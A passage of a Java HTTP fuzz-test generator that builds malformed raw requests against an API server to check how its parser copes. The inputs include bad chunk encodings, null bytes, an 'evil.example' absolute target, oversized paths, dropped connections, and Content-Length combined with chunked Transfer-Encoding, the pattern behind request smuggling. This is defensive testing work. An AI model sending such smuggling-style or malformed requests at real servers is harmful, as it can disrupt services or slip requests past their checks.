                    headers.put("Transfer-Encoding", "chunked");
                    body = pick(List.of("zz\r\nabc\r\n0\r\n\r\n", "3\r\nabcdef\r\n0\r\n\r\n",
                            "3;ext=\u0000\r\nabc\r\n0\r\n\r\n", "-1\r\n\r\n", "0\r\nX-Trailer: \u0000\r\n\r\n"))
                            .getBytes(StandardCharsets.ISO_8859_1);
                    what = "bad chunks";
                }
                case 5 -> {
                    String te = pick(List.of("gzip", "chunked, gzip", "identity", "x-nothing", "chunked;q=1", "Chunked"));
                    headers.put("Transfer-Encoding", te);
                    body = chunk(body, "");
                    what = "Transfer-Encoding " + te;
                }
                case 6 -> {
                    version = pick(List.of("HTTP/1.0", "HTTP/2.0", "HTTP/9.9", "http/1.1", "HTTP/1.1 extra", "", "HTTP/1.10"));
                    what = "version " + version;
                }
                case 7 -> {
                    rawTarget = pick(List.of("http://evil.example" + ApiServer.BASE + "/me", "*", "api/v1/me", ApiServer.BASE + "/me extra",
                            ApiServer.BASE + "/me\u0000", ApiServer.BASE + "/m e", "/" + "a".repeat(70_000)));
                    what = "request target " + abbreviate(rawTarget);
                }
                case 8 -> {
                    lineEnd = pick(List.of("\n", "\r", "\r\r\n"));
                    what = "line ends " + lineEnd.replace("\r", "CR").replace("\n", "LF");
                }
                default -> {
                    headers.put("Content-Length", String.valueOf(body.length));
                    extraHeaderLines.add("Transfer-Encoding: chunked");
                    what = "Content-Length then chunked";
                }
            }
        }

        String rawTarget;
        String lineEnd = "\r\n";

        private byte[] chunk(byte[] data, String ext) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes((Integer.toHexString(data.length) + ext + "\r\n").getBytes(StandardCharsets.ISO_8859_1));
            out.writeBytes(data);
            out.writeBytes("\r\n0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
            return out.toByteArray();
        }

        void hangUp() {
            hangUp = true;
            if (body == null) {
                body = "{\"a\":1}".getBytes(StandardCharsets.UTF_8);
                headers.putIfAbsent("Content-Type", "application/json");
            }
            int roll = random.nextInt(10);
            if (roll < 6) {
                headers.put("Content-Length", String.valueOf(body.length + 1_000));
                what = "goes away mid-body";
            } else if (roll < 8) {
                // announces a chunk far larger than what follows
                headers.put("Transfer-Encoding", "chunked");
                body = "ffffffffffff\r\nabc".getBytes(StandardCharsets.ISO_8859_1);
                what = "goes away mid-chunk";
            } else {
                headersOnly = true;
                what = "goes away mid-headers";
            }
        }

        boolean headersOnly;

        byte[] bytes() {
            StringBuilder target = new StringBuilder();
            if (rawTarget != null) {
                target.append(rawTarget);
            } else {
                target.append(rawPrefix == null ? ApiServer.BASE + "/" : rawPrefix).append(String.join("/", segments));
                if (rawQuery != null) {
                    target.append('?').append(rawQuery);
                } else if (!query.isEmpty()) {
                    target.append('?');
                    query.forEach((k, v) -> target.append(target.charAt(target.length() - 1) == '?' ? "" : "&").append(k).append('=').append(v));
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            String head = method + " " + target + (version.isEmpty() ? "" : " " + version) + lineEnd;
            StringBuilder h = new StringBuilder(head);
            headers.forEach((k, v) -> h.append(k).append(": ").append(v).append(lineEnd));
            extraHeaderLines.forEach(line -> h.append(line).append(lineEnd));
            if (body != null && !headers.containsKey("Content-Length") && !headers.containsKey("Transfer-Encoding")) {
                h.append("Content-Length: ").append(body.length).append(lineEnd);
            }
            if (headersOnly) {
                // stops in the middle of the headers
                byte[] all = h.toString().getBytes(StandardCharsets.UTF_8);
                out.write(all, 0, all.length / 2);
                return out.toByteArray();
            }
            h.append(lineEnd);
            // Header bytes: Latin-1 for the hostile bytes put in as chars below 256, UTF-8 for Thai put in as is.
            out.writeBytes(latin1OrUtf8(h.toString()));
            if (body != null) {
                out.writeBytes(body);
            }
            return out.toByteArray();
        }
    }

    private static byte[] latin1OrUtf8(String s) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(s.length() + 16);
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c < 256) {
                out.write(c);
            } else {
                out.writeBytes(String.valueOf(c).getBytes(StandardCharsets.UTF_8));
            }
        }
        return out.toByteArray();
    }

    private static List<String> toList(JsonNode array) {
        List<String> out = new ArrayList<>();
        array.forEach(n -> out.add(n.asText()));
        return out;
    }

    private static String abbreviate(String s) {
        String shown = s.replaceAll("[\\x00-\\x1f\\x7f-\\xff]", "·");
        return shown.length() > 40 ? shown.substring(0, 40) + "…(" + s.length() + ")" : shown;
    }

    /** JSON text for the generator. */
    private static final class Json {
        private static final com.fasterxml.jackson.databind.ObjectMapper JSON = new com.fasterxml.jackson.databind.ObjectMapper();
        private static final com.fasterxml.jackson.dataformat.yaml.YAMLMapper YAML_READER = new com.fasterxml.jackson.dataformat.yaml.YAMLMapper();

        static String quote(String s) {
            try {
                return JSON.writeValueAsString(s);
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }

        static String fromYaml(String yaml) {
            try {
                return JSON.writeValueAsString(YAML_READER.readTree(yaml));
            } catch (java.io.IOException e) {
                throw new java.io.UncheckedIOException(e);
            }
        }
    }
}
